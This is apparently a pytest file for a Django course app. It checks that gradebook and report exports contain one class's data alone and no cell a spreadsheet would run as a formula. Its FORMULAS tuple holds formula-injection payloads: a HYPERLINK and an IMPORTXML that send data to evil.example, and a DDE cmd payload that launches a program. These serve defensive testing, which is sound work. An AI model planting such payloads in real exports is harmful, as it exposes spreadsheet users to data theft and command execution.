"""P19: exports hold one class alone, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest
from django.test import Client

from studyguide.accounts.models import User
from studyguide.courses.models import Course, Group, Membership
from tests import workbooks
from tests.courses.doing import signed_in
from tests.factories import AssignmentFactory, CourseFactory, MembershipFactory
from tests.promises.figures import figure

HOSTILE: list[str] = json.loads(Path(__file__).with_name("hostile.json").read_text())
LEADS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\xa0=", "=\t", "'="),
    *("＝", "＋", "－", "＠"),
)
FORMULAS = (
    'HYPERLINK("https://evil.example/?"&A1,"open")',
    "cmd|' /C calc'!A0",
    '1+1"&A1&"',
    "SUM(1,2);x",
    'IMPORTXML("https://evil.example","//a")',
)
LEARNERS = 500
CANARY = "zq-another-class"


def naughty(count: int) -> list[str]:
    """Names that fit the column and that every database can hold."""
    found = [lead + tail for tail in FORMULAS for lead in LEADS]
    found += [each[:70] for each in HOSTILE if each.strip() and "\0" not in each]
    found = [each for each in found if each.isprintable() or each[0] in "\t\r\n"]
    return [f"{found[n % len(found)]}{n // len(found) or ''}" for n in range(count)]


def would_run(cell: str) -> bool:
    """Judged apart from the code: what spreadsheets strip, then what they take for a beginning,
    in the wide forms of East Asian input too."""
    begin = unicodedata.normalize("NFKC", cell).lstrip()[:1]
    return begin in set("=+-@") or cell[:1] in set("\t\r\n")


@pytest.fixture
def taught(db: None) -> tuple[Client, Course, list[str]]:
    """A class of naughty names at naughty assignments, beside another class of the same tutor."""
    course = CourseFactory()
    names = naughty(LEARNERS)
    users = User.objects.bulk_create(
        User(username=f"n{n}", display_name=name, password="!") for n, name in enumerate(names)
    )
    Membership.objects.bulk_create(MembershipFactory.build(course=course, user=u) for u in users)
    for title in naughty(12):
        AssignmentFactory(course=course, title=title)
    other = CourseFactory(by=course.owner, title=CANARY)
    AssignmentFactory(course=other, title=CANARY)
    MembershipFactory(course=other, user__display_name=CANARY)
    Group.objects.create(course=other, name=CANARY)
    return signed_in(course.owner), course, names


@pytest.mark.parametrize("name", ["gradebook", "report"])
def test_an_export_runs_nothing_and_holds_its_class_alone(
    taught: tuple[Client, Course, list[str]], name: str
) -> None:
    client, course, names = taught
    answer = client.post(f"/courses/{course.public_id}/{name}/export/")
    assert answer.status_code == 200
    text = answer.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    run = [cell for cell in cells if would_run(cell)]
    foreign = [cell for cell in cells if CANARY in cell]
    figure("P19", f"{name}: {len(cells)} cells, {len(run)} formulas, {len(foreign)} foreign")
    assert not run
    assert not foreign
    assert {len(row) for row in rows if len(row) > 2} == {len(rows[-1])}
    # Nothing is lost by it: without the apostrophe each name is there as it was typed.
    told = {row[0] for row in rows} | {row[0].removeprefix("'") for row in rows}
    assert not [each for each in names if each not in told]


@pytest.mark.parametrize("name", ["gradebook", "report"])
def test_a_workbook_holds_texts_and_no_formula(
    taught: tuple[Client, Course, list[str]], name: str
) -> None:
    client, course, names = taught
    answer = client.post(f"/courses/{course.public_id}/{name}/export/", {"format": "xlsx"})
    told = {row[0] for row in workbooks.read(answer.content)}
    # XML has no way to write most control characters; something stands in their place. A carriage
    # return is read as the end of a line.
    no_xml = {n: "\ufffd" for n in range(32) if n not in {9, 10}} | {13: "\n"}
    assert not [each for each in names if each.translate(no_xml) not in told]
    assert not [each for each in told if CANARY in each]


@pytest.mark.parametrize("name", ["gradebook", "report"])
def test_another_tutors_class_gives_nothing(
    taught: tuple[Client, Course, list[str]], name: str
) -> None:
    _client, course, _names = taught
    stranger = signed_in(CourseFactory().owner)
    assert stranger.post(f"/courses/{course.public_id}/{name}/export/").status_code == 404
